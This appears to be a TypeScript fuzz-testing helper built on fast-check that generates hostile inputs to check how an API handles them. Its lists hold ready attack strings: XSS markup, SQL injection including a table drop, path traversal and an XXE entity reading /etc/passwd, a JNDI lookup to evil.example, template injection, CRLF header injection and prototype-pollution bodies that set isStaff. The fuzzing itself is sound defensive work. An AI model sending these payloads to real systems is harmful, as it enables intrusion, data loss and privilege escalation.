import fc from 'fast-check';

/**
 * Texts that attackers enter. All markup contains `alert(7)`, so that it is recognised when it is reflected.
 */
const TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\udfff\ud800',
  'x\udc00y',
  '\u202egpj.exe',
  '\u200f\u2066a\u2069\ufeff',
  '\u0007\u001b[31m',
  '\r\nset-cookie: a=b',
  '\u2028\u2029',
  '🏳️‍🌈'.repeat(30),
  'e\u0301'.repeat(300),
  'İıſK',
  '<script>alert(7)</script>',
  '"><img src=x onerror=alert(7)>',
  '</script><svg onload=alert(7)>',
  '" onmouseover="alert(7)',
  "' onfocus='alert(7)",
  'javascript:alert(7)',
  'data:text/html,<script>alert(7)</script>',
  '//evil.example/',
  'https://evil.example/',
  '/\\evil.example',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  "' or '1'='1",
  "'; drop table product;--",
  '1; select pg_sleep(30)',
  '%27%20or%201=1',
  '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  '[object Object]',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e21',
  '1e999',
  '0x10',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '-2147483649',
  '2026-13-45',
  '0000-00-00',
  '275760-09-14',
  '~',
  '~~~~',
  ',',
  ',,,',
  '%',
  '%ff',
  '%E0%A4%A',
  '*',
  '(((((((((((((((((((((((((a',
  `${'a'.repeat(60)}!`,
  'a'.repeat(900),
  'a'.repeat(7_000),
  '\u{10ffff}',
  '٣٤٥',
  'me@example.com\u202e',
  '.me@example.com',
  `${'a'.repeat(300)}@example.com`,
  '00000000-0000-0000-0000-000000000000',
] as const;

/** Texts of every kind, including invalid Unicode (unpaired surrogates). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc.array(fc.nat(0xffff), { maxLength: 12 }).map((units) => String.fromCharCode(...units)),
  },
);

const NUMBERS = [
  0,
  -0,
  -1,
  0.1,
  1e21,
  -1e21,
  1e308,
  5e-324,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  2 ** 63,
  90_071_992_547_410,
];

const nested = (depth: number, open: string, close: string) =>
  JSON.parse(open.repeat(depth) + close.repeat(depth)) as unknown;

/** Valid JSON that no contract expects. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], [{}]) },
  { weight: 1, arbitrary: fc.constantFrom(10, 200, 2_000).map((depth) => nested(depth, '[', ']')) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 5 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      ...['__proto__', 'constructor', 'toString', 'length', ''].map(
        (key) => JSON.parse(`{${JSON.stringify(key)}: {"isStaff": true}}`) as unknown,
      ),
    ),
  },
  { weight: 1, arbitrary: fc.constant(Array.from({ length: 2_000 }, (_, index) => index)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
);

/** Bodies that are not JSON, or that do not match the content type. Each character is one byte (Latin-1). */
export const BROKEN_BODIES = [
  '',
  '{',
  '{"a":',
  '[1,]',
  'NaN',
  '{"a":NaN}',
  '{"a":1e999}',
  '{"a":-1e999}',
  'undefined',
  '"text"',
  '7',
  'null',
  '\u00ef\u00bb\u00bf{}',
  '\u00ff\u00fe{}',
  '{"a":"\u00ff"}',
  '{"a":"\u0000"}',
  `{"a":${'['.repeat(20_000)}`,
  '['.repeat(20_000) + ']'.repeat(20_000),
  '{"__proto__":{"isStaff":true}}',
  '{"constructor":{"prototype":{"isStaff":true}}}',
  'a=1&a=2&a[__proto__]=3&%00=%00',
  `${'a='.repeat(2_000)}`,
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
] as const;

/**
 * Encodes text for a URL: escapes every unit except letters, digits and unreserved characters. Includes
 * unpaired surrogates, which encodeURIComponent rejects.
 */
export function inAddress(text: string): string {
  let out = '';
  for (const sign of text) {
    if (/[\w.~*'()!-]/.test(sign)) out += sign;
    else if (/^[\ud800-\udfff]$/.test(sign)) {
      const code = sign.charCodeAt(0);
      for (const byte of [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)])
        out += `%${byte.toString(16)}`;
    } else out += encodeURIComponent(sign);
  }
  return out;
}
